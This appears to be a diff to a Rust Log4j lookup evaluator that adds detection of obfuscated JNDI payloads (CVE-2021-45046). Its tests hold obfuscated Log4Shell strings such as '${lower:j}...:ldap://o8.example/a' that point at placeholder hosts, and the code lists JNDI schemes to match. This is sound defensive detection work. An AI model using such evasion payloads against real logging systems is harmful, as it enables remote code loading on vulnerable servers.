@@ -50,6 +50,23 @@ struct Ctx {
     jndi: Vec<JndiInfo>,
 }
 
+/// Lookups that evaluate to a `jndi:<scheme>:` string without a `${jndi:` lookup written in
+/// the text (`${lower:j}${lower:n}di:ldap://...`, `j${::-n}di:rmi://...`): the payload is
+/// assembled for a later evaluation (CVE-2021-45046 context lookups, re-logged messages).
+/// Returns the evaluated text around it.
+pub fn assembled_jndi(text: &str) -> Option<String> {
+    if !text.contains("${") || text.to_ascii_lowercase().contains("jndi:") {
+        return None;
+    }
+    let ev = evaluate(text);
+    let lower = ev.output.to_ascii_lowercase();
+    let at = ["ldap:", "ldaps:", "rmi:", "dns:", "iiop:", "corba:", "nds:", "nis:", "http:", "https:"]
+        .iter()
+        .find_map(|s| lower.find(&format!("jndi:{s}")))?;
+    let start = lower[..at].char_indices().rev().nth(20).map_or(0, |(i, _)| i);
+    Some(ev.output[start..].chars().take(200).collect())
+}
+
 /// Evaluate the lookups of `text` as Log4j 2 (before 2.15) would.
 pub fn evaluate(text: &str) -> Evaluation {
     let chars: Vec<char> = text.chars().collect();
@@ -203,6 +220,18 @@ fn jndi_info(target: &str, complete: bool) -> JndiInfo {
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn assembled_jndi_strings() {
+        assert_eq!(
+            assembled_jndi("a ${lower:j}${lower:n}${lower:d}${lower:i}:ldap://o8.example/a").as_deref(),
+            Some("a jndi:ldap://o8.example/a")
+        );
+        assert!(assembled_jndi("j${::-n}di:rmi://x/a").is_some());
+        // A written `${jndi:` is the lookup rule's; plain config placeholders are nothing.
+        assert_eq!(assembled_jndi("${jndi:ldap://x/a}"), None);
+        assert_eq!(assembled_jndi("${user.home}/jndi.properties ${env:X:-y}"), None);
+    }
 
     fn first(s: &str) -> Option<JndiInfo> {
         evaluate(s).jndi.into_iter().next()
